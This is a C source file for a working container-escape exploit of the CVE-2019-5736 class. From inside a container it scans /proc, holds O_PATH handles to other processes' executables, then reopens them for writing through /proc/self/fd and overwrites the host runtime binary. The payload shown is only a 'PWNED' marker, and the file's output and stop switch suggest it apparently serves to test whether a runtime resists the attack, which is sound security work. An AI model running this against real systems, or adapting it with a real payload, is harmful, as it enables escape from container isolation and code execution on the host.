// CVE-2019-5736 class attacker: runs as the container's root (default
// capabilities).  It watches /proc for new pids and opens /proc/PID/exe
// with O_PATH for every process whose executable is not one of the
// container's own (itself, /bin/busybox); later it tries to reopen each of
// those for writing through /proc/self/fd/N (which succeeds once the
// runtime binary no longer runs) and overwrites it.
//
// usage: exe-overwrite SECONDS (or until /tmp/stop exists)
// prints "held N" for every exe it got, "OVERWROTE" for every write that
// succeeded, and a summary line at the end.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXPID (1 << 22)
#define MAXHELD 4096

static unsigned char seen[MAXPID / 8];
static int held[MAXHELD];
static int nheld;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int same(struct stat* a, struct stat* b) { return a->st_dev == b->st_dev && a->st_ino == b->st_ino; }

int main(int argc, char** argv) {
    double end = now() + (argc > 1 ? atof(argv[1]) : 10);
    struct stat self, bb;
    memset(&bb, 0, sizeof bb);
    stat("/proc/self/exe", &self);
    stat("/bin/busybox", &bb);
    int overwrote = 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (now() < end && access("/tmp/stop", F_OK) != 0) {
        DIR* d = opendir("/proc");
        if (!d) return 2;
        struct dirent* e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid >= MAXPID || pid == getpid()) continue;
            if (seen[pid / 8] & (1 << (pid % 8))) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;  // denied (non-dumpable) or gone: try again next round
            struct stat st;
            if (fstat(fd, &st) < 0 || same(&st, &self) || same(&st, &bb) || nheld >= MAXHELD) {
                seen[pid / 8] |= 1 << (pid % 8);
                close(fd);
                continue;
            }
            seen[pid / 8] |= 1 << (pid % 8);
            held[nheld++] = fd;
            printf("held pid %d exe (inode %lu)\n", pid, (unsigned long)st.st_ino);
        }
        closedir(d);
        for (int i = 0; i < nheld; ++i) {
            if (held[i] < 0) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
            int w = open(p, O_WRONLY | O_TRUNC);
            if (w < 0) continue;
            static const char payload[] = "#!/bin/sh\necho PWNED by the container\n";
            if (write(w, payload, sizeof payload - 1) > 0) {
                printf("OVERWROTE the exe held as fd %d\n", held[i]);
                ++overwrote;
            }
            close(w);
            close(held[i]);
            held[i] = -1;
        }
    }
    printf("summary: held %d, overwrote %d\n", nheld, overwrote);
    return 0;
}
